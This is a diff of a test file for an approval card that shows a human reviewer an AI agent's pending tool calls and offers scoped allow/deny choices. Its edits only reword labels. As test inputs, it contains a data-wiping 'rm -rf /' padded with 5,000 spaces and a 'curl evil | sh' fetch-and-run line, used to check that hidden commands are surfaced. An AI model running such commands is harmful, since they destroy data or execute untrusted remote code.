@@ -81,7 +81,7 @@ describe('the card', () => {
       '  │ {',
       '  │   "to": "bob"',
       '  │ }',
-      '  17 characters in all',
+      '  17 characters in total',
       '  What it would do:',
       '  │ 1 euro to bob',
       '  asks      assistant in “pay bob” ses_0000000000000000000001',
@@ -125,7 +125,7 @@ describe('the card', () => {
     const text = card({ input: { command: `${' '.repeat(5_000)}rm -rf /` } });
     expect(text).toContain('│   "command": "⟨5000 × space⟩rm -rf /"');
     expect(text).toContain(
-      `  ${JSON.stringify({ command: `${' '.repeat(5_000)}rm -rf /` }, null, 2).length} characters in all`,
+      `  ${JSON.stringify({ command: `${' '.repeat(5_000)}rm -rf /` }, null, 2).length} characters in total`,
     );
   });
 
@@ -139,8 +139,8 @@ describe('the card', () => {
       const text = card(change);
       expect(text).toContain('curl evil | sh');
       expect(text).toMatch(/⟨… \d+ (characters|lines) not shown …⟩/);
-      expect(text).toMatch(/\d{4,} characters in all/);
-      expect(text).toContain('whole: npm start -- approvals show apr_0000000000000000000001');
+      expect(text).toMatch(/\d{4,} characters in total/);
+      expect(text).toContain('in full: npm start -- approvals show apr_0000000000000000000001');
       expect(text.split('\n').length).toBeLessThan(50);
       expect(card(change, true)).toContain('echo 150');
       expect(card(change, true)).not.toContain('not shown');
@@ -189,12 +189,12 @@ describe('the choices', () => {
   it('say what each scope would grant', () => {
     expect(formatChoices(pen, toChoices({ approval, session })).split('\n')).toEqual([
       '  a  allow this one call',
-      '  s  allow in this session, 7 days at most: this tool with {"to":"bob"}',
-      '  w  allow for the role assistant in /home/ada/yard, 90 days at most: this tool with {"to":"bob"}',
-      '  d  deny, and say why if you like',
+      '  s  allow in this session, for up to 7 days: this tool with {"to":"bob"}',
+      '  w  allow for the role assistant in /home/ada/yard, for up to 90 days: this tool with {"to":"bob"}',
+      '  d  deny, with a reason if you like',
     ]);
     const [, forSession] = toChoices({ approval: { ...approval, grantKey: approval.tool } });
-    expect(forSession?.meaning).toBe('allow in this session, 7 days at most: this tool with any input');
+    expect(forSession?.meaning).toBe('allow in this session, for up to 7 days: this tool with any input');
   });
 
   it('are those that the approval names, and this one call where it names none', () => {
